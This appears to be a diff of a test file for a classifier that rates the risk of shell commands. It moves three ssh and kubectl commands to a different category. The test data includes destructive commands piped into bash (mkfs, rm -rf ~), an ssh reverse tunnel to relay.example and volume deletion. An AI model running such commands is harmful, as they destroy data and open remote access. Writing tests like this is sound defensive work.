@@ -50,11 +50,11 @@ def test_remote_access_installs_and_admin_accounts(
         ("gojq -n '\"mkfs.ext4 /dev/sdb\"' | bash", B),
         ("bun eval 'console.log(\"rm -rf ~\")' | sh", B),
         ("jq -r '.scripts.build' package.json | sh", C),
-        ("ssh ops@10.0.0.9 uptime", S),
-        ("ssh -p 2200 db 'ls -la /var/lib/postgresql'", S),
+        ("ssh ops@10.0.0.9 uptime", M),
+        ("ssh -p 2200 db 'ls -la /var/lib/postgresql'", M),
         ("ssh -R 2222:localhost:22 relay.example sleep 600", C),  # reverse tunnel (sig7)
         ("ssh db 'rm -rf /tmp/cache'", D),
-        ("kubectl exec deploy/api -- env", S),
+        ("kubectl exec deploy/api -- env", M),
         ("kubectl exec -it api-0 -- bash", M),
         ("diskutil apfs deleteSnapshot disk1s1 -uuid 1234-ABCD", D),
         ("diskutil apfs deleteVolume disk2s3", B),  # existing reading kept
